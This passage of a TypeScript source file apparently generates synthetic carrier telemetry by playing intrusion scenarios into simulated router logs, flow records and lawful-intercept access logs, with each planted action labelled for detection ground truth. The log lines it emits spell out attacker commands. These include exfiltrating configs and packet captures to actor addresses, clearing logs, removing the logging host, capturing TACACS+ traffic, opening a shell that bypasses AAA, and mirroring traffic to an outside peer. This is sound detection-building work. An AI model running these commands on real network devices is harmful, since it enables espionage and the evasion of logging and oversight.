/**
 * Plays a scenario into the carrier's telemetry: every step becomes device syslog lines, TACACS+
 * accounting records, config changes (seen in the next backup snapshot), flow records, jump-host and
 * access-audit lines, each registered as a planted action (one per stream it shows in) for truth.jsonl.
 */
import type { Carrier, Device, LiOperator } from './carrier.js';
import { Secrets } from './configs.js';
import { hideKeys, type DeviceLogs, type Session, type Tags } from './devlog.js';
import * as E from './edits.js';
import { STREAMS, type Emitter, type Stream } from './emit.js';
import { PROTO, type FlowPlan } from './flowplan.js';
import { accessLine, systemFor } from './access-normal.js';
import { jumpSession, DAY, HOUR, MIN } from './normal.js';
import type { Rng } from './rng.js';
import { ACTIONS, ScenarioError, type Scenario, type Step } from './scenario.js';
import type { ConfigTimeline } from './timeline.js';

export interface PlayContext {
  carrier: Carrier;
  out: Emitter;
  logs: DeviceLogs;
  timelines: Map<string, ConfigTimeline>;
  flows: FlowPlan;
  rng: Rng;
}

interface OpenSession {
  s: Session;
  last: number;
  tags: Tags;
}

interface Src {
  ip: string;
  kind: 'external' | 'jump' | 'device';
  device?: Device;
}

/** Plays the scenario; returns the campaign's first and last action times. */
export function playScenario(ctx: PlayContext, sc: Scenario): { start: number; end: number; skipped: number } {
  const p = new Player(ctx, sc);
  return p.play();
}

class Player {
  private readonly c: Carrier;
  private readonly stepDevice = new Map<string, Device>();
  private readonly used = new Set<string>();
  private readonly sessions = new Map<string, OpenSession>();
  private readonly secrets: Secrets;
  private readonly rng: Rng;
  private liSessions = new Map<string, { last: number; system: string; op: string; host: string; ip: string; tag: string }>();
  private tunnelN = 100;
  private first = Infinity;
  private last = -Infinity;
  private stepNo = 0;
  private queue: { t: number; order: number; fn: () => void }[] = [];
  private seqNo = 0;

  private schedule(t: number, stepIndex: number, fn: () => void): void {
    this.queue.push({ t, order: stepIndex * 1e6 + this.seqNo++, fn });
  }

  constructor(private readonly ctx: PlayContext, private readonly sc: Scenario) {
    this.c = ctx.carrier;
    this.rng = ctx.rng.fork(`campaign:${sc.name}`);
    this.secrets = new Secrets(this.rng.fork('secrets'));
  }

  play(): { start: number; end: number; skipped: number } {
    const c = this.c;
    const startDay = Math.floor(c.days * this.sc.start.at);
    const t0 = c.start + startDay * DAY + this.sc.start.hour * HOUR + this.rng.int(0, 40) * MIN;
    const limit = c.end - 2 * HOUR;
    let skipped = 0;
    // every step occurrence, in time order (scenario order breaks ties); sub-actions such as a later
    // cleanup are queued the same way, so sessions always see their commands in time order
    this.sc.steps.forEach((step, i) => {
      const count = step.repeat?.count ?? 1;
      for (let k = 0; k < count; k++) {
        const jitter = step.repeat ? this.rng.int(0, Math.max(0, Math.floor(step.repeat.jitter / 1000))) * 1000 : this.rng.int(0, 40) * 1000;
        const t = t0 + step.at + k * (step.repeat?.every ?? 0) + jitter + this.rng.int(0, 999);
        if (t >= limit) {
          skipped++;
          continue;
        }
        this.schedule(t, i, () => {
          this.stepNo = i + 1;
          this.run(step, t, k);
        });
      }
    });
    for (;;) {
      this.queue.sort((a, b) => a.t - b.t || a.order - b.order);
      const next = this.queue.shift();
      if (!next) break;
      if (next.t >= limit) {
        skipped++;
        continue;
      }
      next.fn();
    }
    for (const [name, o] of this.sessions) this.closeSession(name, o, o.last + this.rng.int(40, 240) * 1000);
    for (const [key, l] of this.liSessions) {
      accessLine(this.ctx.out, l.last + this.rng.int(60, 600) * 1000, { system: l.system, operator: l.op, src_host: l.host, src_ip: l.ip, action: 'logout', targets: [], case_ref: null, records: 0, bytes: 0, result: 'success' }, l.tag);
      this.liSessions.delete(key);
    }
    return { start: this.first, end: this.last, skipped };
  }

  /** Registers a planted action in every stream; those that get no lines are dropped when writing. */
  private plant(step: Step, technique: string, device: string, t: number, action?: string): Tags {
    this.first = Math.min(this.first, t);
    this.last = Math.max(this.last, t);
    const tags: Tags = {};
    for (const stream of STREAMS) {
      tags[stream as Stream] = this.ctx.out.plant({ t, device, stream: stream as Stream, technique, action: action ?? step.action, step: this.stepNo }).id;
    }
    return tags;
  }

  private technique(step: Step): string {
    return step.technique ?? ACTIONS[step.action];
  }

  private err(step: Step, msg: string): ScenarioError {
    return new ScenarioError(this.sc.file, `steps[${this.stepNo - 1}] (${step.action}): ${msg}`);
  }

  private device(step: Step, need?: string): Device {
    if (step.on) {
      const d = this.stepDevice.get(step.on);
      if (!d) throw this.err(step, `step "${step.on}" has no device`);
      if (step.id) this.stepDevice.set(step.id, d);
      return d;
    }
    const cached = step.id ? this.stepDevice.get(step.id) : undefined;
    if (cached) return cached;
    let cands = this.c.devices;
    const tg = step.target ?? {};
    if (tg.device) cands = cands.filter((d) => d.name === tg.device);
    if (tg.role) cands = cands.filter((d) => d.role === tg.role);
    if (need) cands = cands.filter((d) => E.supports(need, d.platform));
    cands = byPlatform(cands, tg);
    if (step.action === 'exploit_webui') {
      const web = cands.filter((d) => d.imperfections.includes('web_ui_enabled'));
      if (web.length) cands = web;
    }
    if (cands.length === 0) throw this.err(step, `no device of this carrier matches the target ${JSON.stringify(tg)}${need ? ` and supports ${need}` : ''}`);
    const fresh = cands.filter((d) => !this.used.has(d.name));
    const d = this.rng.pick(fresh.length ? fresh : cands);
    this.used.add(d.name);
    if (step.id) this.stepDevice.set(step.id, d);
    return d;
  }

  private source(step: Step, k = 0): Src {
    const f = step.from;
    if (!f) return { ip: this.sc.actor.addresses[k % this.sc.actor.addresses.length], kind: 'external' };
    if (f === 'jump') return { ip: this.c.jumpHosts[1 % this.c.jumpHosts.length].ip, kind: 'jump' };
    if (f.startsWith('jump:')) {
      const h = this.c.jumpHosts.find((j) => j.name === f.slice(5)) ?? this.c.jumpHosts[0];
      return { ip: h.ip, kind: 'jump' };
    }
    if (f.startsWith('device:')) {
      const d = this.stepDevice.get(f.slice(7));
      if (!d) throw this.err(step, `from: ${f} has no device`);
      return { ip: d.loopback, kind: 'device', device: d };
    }
    if (f.startsWith('actor:')) return { ip: this.sc.actor.addresses[Number(f.slice(6)) % this.sc.actor.addresses.length], kind: 'external' };
    // an address of the NOC management network (jump hosts, backup, NMS) reaches the management plane
    if (f.startsWith('10.40.0.')) return { ip: f, kind: 'jump' };
    return { ip: f, kind: 'external' };
  }

  private user(step: Step): string {
    const u = step.user ?? this.sc.actor.user;
    if (u === '$engineer') return this.c.engineers[this.c.engineers.length - 1].user;
    if (u === '$backup') return this.c.backupUser;
    if (u === '$breakglass') return this.c.breakglass;
    return u;
  }

  /** The address an outside party reaches a device on. */
  private reachAddr(d: Device, src: Src): string {
    if (src.kind === 'external') return d.publicIp ?? d.loopback;
    if (src.kind === 'device') return d.loopback;
    return d.mgmt;
  }

  private flowSsh(d: Device, src: Src, t: number, end: number, tag: string | undefined, port = 22): void {
    const f = this.ctx.flows;
    if (src.kind === 'jump') {
      f.ssh(d, src.ip, t, end, 8000 + this.rng.int(0, 30000), tag, port);
      return;
    }
    const x = src.kind === 'device' ? f.edgeExporter(src.device!) : f.edgeExporter(d);
    if (!x) return;
    f.tcp(x, src.ip, this.reachAddr(d, src), port, t, end, 4000 + this.rng.int(0, 6000), 12000 + this.rng.int(0, 60000), tag);
  }

  private closeSession(name: string, o: OpenSession, t: number): void {
    this.ctx.logs.logout(o.s, t, o.tags);
    const src: Src = o.s.src === this.sessionSrc.get(name)?.ip ? this.sessionSrc.get(name)! : { ip: o.s.src, kind: 'external' };
    this.flowSsh(o.s.device, src, o.s.start, t, o.tags.flows, o.s.localport);
    this.sessions.delete(name);
  }
  private sessionSrc = new Map<string, Src>();

  /** The intruder's open session on a device, opening one (a planted login, T1078) if needed. */
  private session(step: Step, d: Device, t: number, opts: { port?: number; technique?: string; tags?: Tags; accounted?: boolean } = {}): Session {
    const o = this.sessions.get(d.name);
    const src = this.source(step);
    if (o && t - o.last < 25 * MIN && (step.from === undefined || o.s.src === src.ip)) {
      o.last = t;
      return o.s;
    }
    if (o) this.closeSession(d.name, o, Math.min(t - 60_000, o.last + this.rng.int(60, 300) * 1000));
    const user = this.user(step);
    const port = opts.port ?? 22;
    const tags = opts.tags ?? this.plant(step, opts.technique ?? (port === 22 ? 'T1078' : 'T1571'), d.name, t, 'login');
    const s = this.ctx.logs.login(d, t, user, src.ip, tags, { localport: port, accounted: opts.accounted });
    this.sessions.set(d.name, { s, last: t, tags });
    this.sessionSrc.set(d.name, src);
    return s;
  }

  private touch(d: Device, t: number): void {
    const o = this.sessions.get(d.name);
    if (o) o.last = Math.max(o.last, t);
  }

  /** A config-mode edit through the intruder's session: logs, accounting, and the change in the next snapshot. */
  private configEdit(step: Step, d: Device, t: number, edit: E.Edit, tags: Tags): number {
    if (edit.commands.length === 0) return t;
    if (step.params.via === 'webui') {
      // CVE-2023-20198-style: configuration through the web UI's WSMA endpoint, outside AAA accounting
      if (d.platform !== 'iosxe') throw this.err(step, 'via: webui needs an IOS XE device');
      const by = typeof step.params.by === 'string' ? step.params.by : this.user(step);
      this.ctx.logs.syslog(d, t, 5, 'SYS-5-CONFIG_P', `Configured programmatically by process SEP_webui_wsma_http from console as ${by} on vty31`, tags.syslog);
      edit.commands.forEach((cmd, i) => this.ctx.logs.syslog(d, t + 150 + i * 40, 5, 'PARSER-5-CFGLOG_LOGGEDCMD', `User:${by}  logged command:${hideKeys(cmd)}`, tags.syslog));
      this.ctx.timelines.get(d.name)!.change(t + 1000, (doc) => edit.apply(doc, tags.config));
      return t + 1000;
    }
    const s = this.session(step, d, t - 20_000);
    const end = this.ctx.logs.configure(s, t, edit.commands, tags, { gap: 6 });
    const tl = this.ctx.timelines.get(d.name)!;
    tl.change(end, (doc) => edit.apply(doc, tags.config));
    if (d.platform === 'iosxe' && step.params.save !== false) this.ctx.logs.exec(s, end + 3000, 'write memory', tags);
    this.touch(d, end + 5000);
    return end;
  }

  private run(step: Step, t: number, k: number): void {
    const tech = this.technique(step);
    const P = step.params;
    const num = (v: unknown, dflt: number) => (typeof v === 'number' && Number.isFinite(v) ? v : dflt);
    const str = (v: unknown, dflt: string) => (typeof v === 'string' ? v : dflt);
    switch (step.action) {
      case 'exploit_webui': {
        const d = this.device(step);
        if (d.platform !== 'iosxe') throw this.err(step, 'exploit_webui needs an IOS XE device');
        const src = this.source(step, k);
        const tags = this.plant(step, tech, d.name, t);
        const user = this.user(step);
        const x = this.ctx.flows.edgeExporter(d);
        for (let i = 0; i < 4; i++) if (x) this.ctx.flows.tcp(x, src.ip, d.publicIp ?? d.mgmt, 443, t + i * 7000, t + i * 7000 + 3000, 1800 + i * 300, 4200, tags.flows);
        this.ctx.logs.syslog(d, t + 9000, 5, 'SEC_LOGIN-5-WEBLOGIN_SUCCESS', `Login Success [user: ${user}] [Source: ${src.ip}] at ${new Date(t + 9000).toISOString().slice(11, 19)} UTC`, tags.syslog);
        this.ctx.logs.syslog(d, t + 11000, 5, 'SYS-5-CONFIG_P', `Configured programmatically by process SEP_webui_wsma_http from console as ${user} on vty31`, tags.syslog);
        if (P.implant !== false) {
          this.ctx.logs.syslog(d, t + 25000, 6, 'WEBUI-6-INSTALL_OPERATION_INFO', `User: ${user}, Install Operation: ADD ${str(P.file, 'bootflash:/cisco_service.conf')}`, tags.syslog);
        }
        return;
      }
      case 'local_account': {
        const d = this.device(step, 'local_account');
        const user = str(P.account, this.user(step));
        const tags = this.plant(step, tech, d.name, t);
        this.configEdit(step, d, t, E.localAccount(d, user, this.secrets), tags);
        return;
      }
      case 'acl_permit': {
        const d = this.device(step, 'acl_permit');
        this.configEdit(step, d, t, E.aclPermit(d, str(P.address, this.sc.actor.addresses[0])), this.plant(step, tech, d.name, t));
        return;
      }
      case 'aaa_server': {
        const d = this.device(step, 'aaa_server');
        const ip = str(P.address, this.sc.actor.addresses[0]);
        const tags = this.plant(step, tech, d.name, t);
        const end = this.configEdit(step, d, t, E.aaaServer(d, ip, this.secrets), tags);
        // the device now talks TACACS+ to the intruder's server (on each later login)
        const x = this.ctx.flows.edgeExporter(d);
        for (let i = 0; i < 3; i++) if (x) this.ctx.flows.tcp(x, d.publicIp ?? d.loopback, ip, 49, end + (i + 1) * 40 * MIN, end + (i + 1) * 40 * MIN + 1500, 700, 300, tags.flows);
        return;
      }
      case 'logging_host_removed': {
        const d = this.device(step, 'logging_host_removed');
        const tags = this.plant(step, tech, d.name, t);
        const end = this.configEdit(step, d, t, E.loggingHostRemoved(d), tags);
        if (d.platform === 'iosxe') this.ctx.logs.syslog(d, end - 3000, 6, 'SYS-6-LOGGINGHOST_STARTSTOP', 'Logging to host 10.40.0.32 port 514 stopped - CLI initiated', tags.syslog);
        return;
      }
      case 'history_off': {
        const d = this.device(step, 'history_off');
        this.configEdit(step, d, t, E.historyOff(d), this.plant(step, tech, d.name, t));
        return;
      }
      case 'gre_tunnel': {
        const d = this.device(step, 'gre_tunnel');
        const peer = str(P.peer, this.sc.actor.addresses[this.sc.actor.addresses.length - 1]);
        const n = this.tunnelN++;
        const tags = this.plant(step, tech, d.name, t);
        const edit = E.greTunnel(d, peer, n, `172.31.${n % 250}.1`);
        const end = this.configEdit(step, d, t, edit, tags);
        const ifName = edit.commands[0].replace(/^interface /, '').replace(/^set interfaces (\S+) unit (\d+).*/, '$1.$2');
        this.ctx.logs.link(d, end + 2000, ifName, true, tags.syslog);
        const dur = parseDurationParam(P.duration, 6 * HOUR);
        const x = this.ctx.flows.edgeExporter(d);
        const mb = num(P.megabytes, 400);
        if (x) {
          const from = d.publicIp ?? d.loopback;
          this.ctx.flows.add({ t: end + 5000, end: end + 5000 + dur, exporter: x.name, src: from, dst: peer, sport: 0, dport: 0, proto: PROTO.GRE, bytes: Math.round(mb * 1e6 * 0.8), packets: Math.round(mb * 1e6 * 0.8 / 900), inIf: 1, outIf: 40, flags: 0, tag: tags.flows });
          this.ctx.flows.add({ t: end + 5100, end: end + 5100 + dur, exporter: x.name, src: peer, dst: from, sport: 0, dport: 0, proto: PROTO.GRE, bytes: Math.round(mb * 1e6 * 0.2), packets: Math.round(mb * 1e6 * 0.2 / 300), inIf: 40, outIf: 1, flags: 0, tag: tags.flows });
        }
        return;
      }
      case 'traffic_mirror': {
        const d = this.device(step, 'traffic_mirror');
        const dest = str(P.destination, this.sc.actor.addresses[this.sc.actor.addresses.length - 1]);
        const tags = this.plant(step, tech, d.name, t);
        const end = this.configEdit(step, d, t, E.trafficMirror(d, dest), tags);
        const x = this.ctx.flows.edgeExporter(d);
        const dur = parseDurationParam(P.duration, 4 * HOUR);
        const mb = num(P.megabytes, 1500);
        if (x) this.ctx.flows.add({ t: end + 3000, end: end + 3000 + dur, exporter: x.name, src: d.publicIp ?? d.loopback, dst: dest, sport: 0, dport: 0, proto: PROTO.GRE, bytes: Math.round(mb * 1e6), packets: Math.round(mb * 1e6 / 1100), inIf: 60, outIf: 40, flags: 0, tag: tags.flows });
        return;
      }
      case 'ssh_odd_port': {
        const d = this.device(step, 'ssh_odd_port');
        const tags = this.plant(step, tech, d.name, t);
        if (d.platform === 'iosxe') {
          this.configEdit(step, d, t, E.sshOddPort(d, num(P.port, 22022)), tags);
        } else {
          // IOS XR: the Linux sshd in the global VRF, started from the shell (no XR config line)
          const s = this.session(step, d, t - 20_000);
          this.ctx.logs.exec(s, t, 'run', tags);
          this.ctx.logs.syslog(d, t + 700, 5, 'INFRA-INFRA_MSG-5-RUN_LOGIN', `User ${s.user} logged into shell from vty${s.tty}`, tags.syslog, { proc: 'exec', pid: s.pid + 1 });
          this.ctx.logs.exec(s, t + 20_000, 'run service sshd_operns start', tags);
          this.ctx.logs.exec(s, t + 41_000, 'run chkconfig --add sshd_operns_global-vrf', tags);
          this.ctx.logs.syslog(d, t + 60_000, 5, 'INFRA-INFRA_MSG-5-RUN_LOGOUT', `User ${s.user} logged out of shell from vty${s.tty}`, tags.syslog, { proc: 'exec', pid: s.pid + 1 });
          this.touch(d, t + 60_000);
        }
        return;
      }
      case 'login': {
        const d = this.device(step);
        const port = num(P.port, 22);
        const src = this.source(step, k);
        const technique = step.technique ?? (port === 22 ? 'T1078' : 'T1571');
        const tags = this.plant(step, technique, d.name, t);
        if (d.platform === 'iosxr' && port === 57722) {
          // sshd_operns: a Linux shell that bypasses XR AAA; only the flows see it
          const end = t + parseDurationParam(P.duration, 25 * MIN);
          this.flowSsh(d, src, t, end, tags.flows, port);
          return;
        }
        const o = this.sessions.get(d.name);
        if (o) this.closeSession(d.name, o, Math.min(t - 60_000, o.last + 120_000));
        const user = this.user(step);
        const s = this.ctx.logs.login(d, t, user, src.ip, tags, { localport: port });
        this.sessions.set(d.name, { s, last: t + 30_000, tags });
        this.sessionSrc.set(d.name, src);
        return;
      }
      case 'brute_force': {
        const d = this.device(step);
        const src = this.source(step, k);
        const tags = this.plant(step, tech, d.name, t);
        const n = num(P.count, 25);
        const user = this.user(step);
        for (let i = 0; i < n; i++) this.ctx.logs.loginFailed(d, t + i * this.rng.int(2, 9) * 1000, user, src.ip, tags.syslog);
        const x = this.ctx.flows.edgeExporter(d);
        if (x) for (let i = 0; i < n; i += 5) this.ctx.flows.tcp(x, src.ip, this.reachAddr(d, src), 22, t + i * 5000, t + i * 5000 + 4000, 2200, 2600, tags.flows);
        return;
      }
      case 'jump_login': {
        const host = this.c.jumpHosts.find((j) => j.name === P.host) ?? this.c.jumpHosts[1 % this.c.jumpHosts.length];
        const user = this.user(step);
        const src = this.source(step, k);
        const tags = this.plant(step, tech, host.name, t);
        jumpSession(this.ctx, host, user, src.ip, t, t + parseDurationParam(P.duration, 3 * HOUR), this.rng, tags.jumphost, 'password');
        return;
      }
      case 'guestshell': {
        const d = this.device(step, 'guestshell');
        const tags = this.plant(step, tech, d.name, t);
        let now = t;
        if (d.platform === 'iosxe') now = this.configEdit(step, d, t, E.guestshellConfig(d), tags) + 20_000;
        const s = this.session(step, d, now - 20_000);
        this.ctx.logs.exec(s, now, 'guestshell enable', tags);
        if (d.platform === 'nxos') {
          this.ctx.logs.syslog(d, now + 40_000, 2, 'VMAN-2-INSTALL_STATE', "Successfully installed virtual service 'guestshell+'", tags.syslog);
          this.ctx.logs.syslog(d, now + 75_000, 2, 'VMAN-2-ACTIVATION_STATE', "Successfully activated virtual service 'guestshell+'", tags.syslog);
        } else {
          this.ctx.logs.syslog(d, now + 60_000, 6, 'IM-6-IOX_INST_INFO', `R0/0: ioxman: IOX SERVICE guestshell LOG: Guestshell is up at ${new Date(now + 60_000).toISOString().slice(0, 19).replace('T', ' ')}`, tags.syslog);
        }
        for (const [i, cmd] of ['guestshell run bash', ...(Array.isArray(P.commands) ? P.commands.map(String) : ['guestshell run python3 /bootflash/.t/map.py'])].entries()) {
          this.ctx.logs.exec(s, now + 120_000 + i * 45_000, cmd, tags);
        }
        this.touch(d, now + 300_000);
        const cleanup = parseDurationParam(P.cleanup, 0);
        if (cleanup > 0) {
          const ct = now + cleanup;
          const stepNo = this.stepNo;
          this.schedule(ct, stepNo - 1, () => {
            this.stepNo = stepNo;
            const ctags = this.plant(step, 'T1070', d.name, ct, 'guestshell_destroy');
            const s2 = this.session(step, d, ct - 20_000);
            this.ctx.logs.exec(s2, ct, 'guestshell destroy', ctags);
            if (d.platform === 'nxos') this.ctx.logs.syslog(d, ct + 30_000, 2, 'VMAN-2-ACTIVATION_STATE', "Successfully deactivated virtual service 'guestshell+'", ctags.syslog);
            else this.ctx.logs.syslog(d, ct + 30_000, 6, 'IM-6-IOX_INST_INFO', 'R0/0: ioxman: IOX SERVICE guestshell LOG: Guestshell destroyed', ctags.syslog);
            this.touch(d, ct + 40_000);
          });
        }
        return;
      }
      case 'packet_capture': {
        const d = this.device(step);
        const tags = this.plant(step, tech, d.name, t);
        const s = this.session(step, d, t - 20_000);
        const file = str(P.file, 'tac.pcap');
        const port = num(P.port, 49);
        const dur = parseDurationParam(P.duration, 20 * MIN);
        const mgmt = d.ifaces.find((i) => i.kind === 'mgmt')!.name;
        let cmds: [number, string][];
        switch (d.platform) {
          case 'iosxe':
            cmds = [[0, `monitor capture tac interface ${mgmt} both`], [15_000, `monitor capture tac match ipv4 protocol tcp any any eq ${port}`], [28_000, 'monitor capture tac buffer size 10'], [40_000, 'monitor capture tac start'], [dur, 'monitor capture tac stop'], [dur + 20_000, `monitor capture tac export bootflash:${file}`]];
            break;
          case 'nxos':
            cmds = [[0, `ethanalyzer local interface mgmt capture-filter "tcp port ${port}" limit-captured-frames 0 write bootflash:${file}`]];
            break;
          case 'junos':
            cmds = [[0, `monitor traffic interface fxp0 matching "tcp port ${port}" write-file /var/tmp/${file}`]];
            break;
          case 'eos':
            cmds = [[0, `bash tcpdump -i ma1 -w /mnt/flash/${file} port ${port}`]];
            break;
          case 'iosxr':
            cmds = [[0, `run tcpdump -i eth-vf1.3074 -w /harddisk:/${file} port ${port}`]];
            break;
        }
        for (const [off, cmd] of cmds) this.ctx.logs.exec(s, t + off, cmd, tags);
        this.touch(d, t + dur + 30_000);
        return;
      }
      case 'config_theft': {
        const d = this.device(step);
        const tags = this.plant(step, tech, d.name, t);
        const dest = str(P.destination, this.sc.actor.addresses[0]);
        const method = str(P.method, 'tftp');
        const s = this.session(step, d, t - 20_000);
        const show = d.platform === 'junos' ? 'show configuration | display set' : 'show running-config';
        this.ctx.logs.exec(s, t, d.platform === 'junos' ? 'set cli screen-length 0' : 'terminal length 0', tags);
        this.ctx.logs.exec(s, t + 6000, show, tags);
        if (P.copy !== false) {
          const copy = d.platform === 'junos'
            ? `file copy /config/juniper.conf.gz ${method === 'tftp' ? 'ftp' : method}://${dest}/${d.name}.conf.gz`
            : `copy running-config ${method}://${dest}/${d.name}.cfg`;
          this.ctx.logs.exec(s, t + 30_000, copy, tags);
          const ftags = this.plant(step, str(P.exfil_technique, 'T1048'), d.name, t + 30_000, 'config_exfil');
          this.exfilFlow(d, dest, method, t + 31_000, num(P.kilobytes, 60) * 1000, ftags.flows);
        }
        this.touch(d, t + 40_000);
        return;
      }
      case 'exfil_file': {
        const d = this.device(step);
        const tags = this.plant(step, tech, d.name, t);
        const dest = str(P.destination, this.sc.actor.addresses[0]);
        const method = str(P.method, 'tftp');
        const file = str(P.file, 'bootflash:tac.pcap');
        const s = this.session(step, d, t - 20_000);
        this.ctx.logs.exec(s, t, `copy ${file} ${method}://${dest}/${file.replace(/^.*[:/]/, '')}`, tags);
        this.exfilFlow(d, dest, method, t + 1000, num(P.kilobytes, 12000) * 1000, tags.flows);
        this.touch(d, t + 60_000);
        return;
      }
      case 'lateral_ssh': {
        if (!step.on && !step.from) throw this.err(step, 'lateral_ssh needs `from: device:<step>` (the device it starts on)');
        const fromDev = step.from?.startsWith('device:') ? this.stepDevice.get(step.from.slice(7))! : this.stepDevice.get(step.on!)!;
        const to = this.pickOther(step, fromDev);
        const user = this.user(step);
        const tagsA = this.plant(step, tech, fromDev.name, t);
        const sA = this.session({ ...step, from: undefined, on: undefined }, fromDev, t - 20_000);
        const cmd = fromDev.platform === 'iosxr' ? `ssh ${to.loopback} username ${user}` : fromDev.platform === 'iosxe' || fromDev.platform === 'eos' ? `ssh -l ${user} ${to.loopback}` : `ssh ${user}@${to.loopback}`;
        this.ctx.logs.exec(sA, t, cmd, tagsA);
        this.touch(fromDev, t + 10 * MIN);
        const tagsB = this.plant(step, tech, to.name, t + 4000);
        const o = this.sessions.get(to.name);
        if (o) this.closeSession(to.name, o, Math.min(t - 60_000, o.last + 120_000));
        const s = this.ctx.logs.login(to, t + 4000, user, fromDev.loopback, tagsB);
        this.sessions.set(to.name, { s, last: t + 30_000, tags: tagsB });
        this.sessionSrc.set(to.name, { ip: fromDev.loopback, kind: 'device', device: fromDev });
        if (step.id) this.stepDevice.set(step.id, to);
        return;
      }
      case 'clear_logs': {
        const d = this.device(step);
        const tags = this.plant(step, tech, d.name, t);
        const s = this.session(step, d, t - 20_000);
        const cmds: Record<Device['platform'], string[]> = {
          iosxe: ['show logging', 'clear logging', 'clear archive log config'],
          iosxr: ['show logging', 'clear logging'],
          nxos: ['show logging logfile', 'clear logging logfile'],
          junos: ['show log messages', 'clear log messages', 'clear log interactive-commands'],
          eos: ['show logging', 'clear logging'],
        };
        cmds[d.platform].forEach((cmd, i) => this.ctx.logs.exec(s, t + i * 9000, cmd, tags));
        this.touch(d, t + 40_000);
        return;
      }
      case 'recon': {
        const d = this.device(step);
        const tags = this.plant(step, tech, d.name, t);
        const s = this.session(step, d, t - 20_000);
        const cmds: Record<Device['platform'], string[]> = {
          iosxe: ['terminal length 0', 'show running-config | include username|tacacs|snmp', 'show tacacs', 'show cdp neighbors detail', 'show ip route', 'show file systems', 'dir bootflash:', 'show clock', 'show platform software status control-processor brief'],
          iosxr: ['terminal length 0', 'show running-config username', 'show tacacs', 'show cdp neighbors detail', 'show route ipv4', 'show filesystem', 'dir harddisk:', 'show clock'],
          nxos: ['terminal length 0', 'show running-config | include username|tacacs', 'show tacacs-server', 'show cdp neighbors detail', 'show ip route vrf all', 'dir bootflash:', 'show clock'],
          junos: ['set cli screen-length 0', 'show configuration system login', 'show lldp neighbors', 'show route', 'file list /var/tmp', 'show system uptime'],
          eos: ['terminal length 0', 'show running-config section username', 'show lldp neighbors detail', 'show ip route', 'dir flash:', 'show clock'],
        };
        let at = t;
        for (const cmd of cmds[d.platform]) {
          this.ctx.logs.exec(s, at, cmd, tags);
          at += this.rng.int(6, 25) * 1000 + this.rng.int(0, 999);
        }
        this.touch(d, t + 5 * MIN);
        return;
      }
      case 'snmp_walk': {
        const d = this.device(step);
        const src = this.source(step, k);
        const tags = this.plant(step, tech, d.name, t);
        const x = this.ctx.flows.edgeExporter(d);
        const dst = this.reachAddr(d, src);
        const dur = parseDurationParam(P.duration, 12 * MIN);
        if (x) {
          this.ctx.flows.add({ t, end: t + dur, exporter: x.name, src: src.ip, dst, sport: this.rng.int(40000, 60000), dport: 161, proto: PROTO.UDP, bytes: 4_200_000, packets: 52_000, inIf: 40, outIf: 1, flags: 0, tag: tags.flows });
          this.ctx.flows.add({ t: t + 10, end: t + dur, exporter: x.name, src: dst, dst: src.ip, sport: 161, dport: 40001, proto: PROTO.UDP, bytes: 38_000_000, packets: 52_000, inIf: 1, outIf: 40, flags: 0, tag: tags.flows });
        }
        return;
      }
      case 'beacon': {
        const d = this.device(step);
        const dest = str(P.destination, this.sc.actor.addresses[0]);
        const tags = this.plant(step, tech, d.name, t);
        const x = this.ctx.flows.edgeExporter(d);
        const n = num(P.count, 48);
        const every = parseDurationParam(P.every, 30 * MIN);
        for (let i = 0; i < n; i++) {
          const bt = t + i * every + this.rng.int(0, 20) * 1000;
          if (bt >= this.c.end - HOUR) break;
          if (x) this.ctx.flows.tcp(x, d.publicIp ?? d.loopback, dest, num(P.port, 443), bt, bt + 1800, 620 + this.rng.int(0, 40), 1400 + this.rng.int(0, 80), tags.flows);
        }
        return;
      }
      case 'li_login': {
        const op = this.liOperator(step);
        const system = str(P.system, systemFor(op));
        const host = str(P.src_host, 'unknown');
        const ip = str(P.src_ip, this.sc.actor.addresses[0]);
        const tags = this.plant(step, tech, system, t);
        accessLine(this.ctx.out, t, { system, operator: op.name, src_host: host, src_ip: ip, action: 'login', targets: [], case_ref: null, records: 0, bytes: 0, result: 'success' }, tags.access);
        this.liSessions.set(`${system}:${op.name}`, { last: t, system, op: op.name, host, ip, tag: tags.access! });
        return;
      }
      case 'li_search':
      case 'li_export':
      case 'li_new_operator': {
        const op = this.liOperator(step);
        const system = str(P.system, step.action === 'li_new_operator' ? 'li-admin' : systemFor(op));
        const sess = this.liSessions.get(`${system}:${op.name}`);
        const host = str(P.src_host, sess?.host ?? this.c.li.jumpHosts[0].name);
        const ip = str(P.src_ip, sess?.ip ?? this.c.li.jumpHosts[0].ip);
        const tags = this.plant(step, tech, system, t);
        const base = { system, operator: op.name, src_host: host, src_ip: ip };
        let last = t;
        if (step.action === 'li_search') {
          const n = num(P.count, 20);
          const covered = new Set(this.c.li.warrants.flatMap((w) => w.targets));
          const pool = this.c.li.subscribers.filter((x) => !covered.has(x));
          const targets = this.rng.sample(pool, n);
          const caseRef = P.case_ref === undefined ? null : String(P.case_ref);
          targets.forEach((tg, i) => {
            last = t + i * parseDurationParam(P.gap, 40_000) + this.rng.int(0, 20) * 1000;
            accessLine(this.ctx.out, last, { ...base, action: 'search', targets: [tg], case_ref: caseRef, records: this.rng.int(40, 900), bytes: 0, result: 'success' }, tags.access);
          });
        } else if (step.action === 'li_export') {
          const records = num(P.records, 2_400_000);
          accessLine(this.ctx.out, t, { ...base, action: 'export', targets: Array.isArray(P.targets) ? P.targets.map(String) : ['*'], case_ref: P.case_ref === undefined ? null : String(P.case_ref), records, bytes: num(P.bytes, records * 220), result: 'success' }, tags.access);
        } else {
          const account = str(P.account, 'svc-lea-sync');
          accessLine(this.ctx.out, t, { ...base, action: 'admin_change', targets: [account], case_ref: null, records: 0, bytes: 0, result: 'success' }, tags.access);
        }
        if (sess) sess.last = Math.max(sess.last, last);
        return;
      }
    }
  }

  private pickOther(step: Step, not: Device): Device {
    if (step.id && this.stepDevice.has(step.id)) return this.stepDevice.get(step.id)!;
    const tg = step.target ?? {};
    let cands = this.c.devices.filter((d) => d.name !== not.name);
    if (tg.device) cands = cands.filter((d) => d.name === tg.device);
    if (tg.role) cands = cands.filter((d) => d.role === tg.role);
    cands = byPlatform(cands, tg);
    if (!cands.length) throw this.err(step, `no other device matches ${JSON.stringify(tg)}`);
    const fresh = cands.filter((d) => !this.used.has(d.name));
    const d = this.rng.pick(fresh.length ? fresh : cands);
    this.used.add(d.name);
    return d;
  }

  private liOperator(step: Step): LiOperator {
    const ops = this.c.li.operators;
    const want = step.user ?? String(step.params.operator ?? '$li-admin');
    if (want === '$disabled') return ops.find((o) => o.status === 'disabled') ?? ops[ops.length - 1];
    if (want.startsWith('$')) {
      const role = want.slice(1);
      const found = ops.filter((o) => o.status === 'active' && o.role === role);
      if (found.length) return found[found.length - 1];
